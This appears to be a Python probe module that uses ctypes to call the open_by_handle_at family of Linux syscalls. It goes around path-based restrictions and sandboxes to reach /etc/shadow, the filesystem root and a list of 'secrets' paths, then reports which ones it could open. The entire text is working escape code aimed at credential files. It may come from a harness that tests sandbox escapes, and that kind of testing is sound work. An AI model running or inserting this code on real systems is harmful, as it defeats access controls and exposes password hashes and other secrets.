"""Opens files by handles, which go past every folder and rule."""

import ctypes
import os
import struct
import sysconfig


NUMBERS = {"x86_64": (303, 304), "aarch64": (264, 265)}
SIZE, FOLLOW = 128, 0x400


def trigger():
    if os.uname().machine not in NUMBERS:
        return {"reached": 0, "ran": os.uname().machine}
    name_to_handle, open_by_handle = NUMBERS[os.uname().machine]
    libc, found = ctypes.CDLL(None, use_errno=True), []
    mounts = [os.open(p, os.O_RDONLY) for p in (".", sysconfig.get_path("purelib"))]
    for path in [*TARGETS.get("secrets", []), "/etc/shadow", "/"]:
        handle = ctypes.create_string_buffer(struct.pack("Ii", SIZE, 0), 8 + SIZE)
        mount = ctypes.c_int()
        where = (-100, path.encode(), handle, ctypes.byref(mount), FOLLOW)
        if libc.syscall(name_to_handle, *where) < 0:
            continue
        for mount_fd in mounts:
            fd = libc.syscall(open_by_handle, mount_fd, handle, os.O_RDONLY)
            if fd >= 0:
                os.close(fd)
                found.append(path)
    return {"reached": len(found), "ran": " ".join(found)[:4000]}
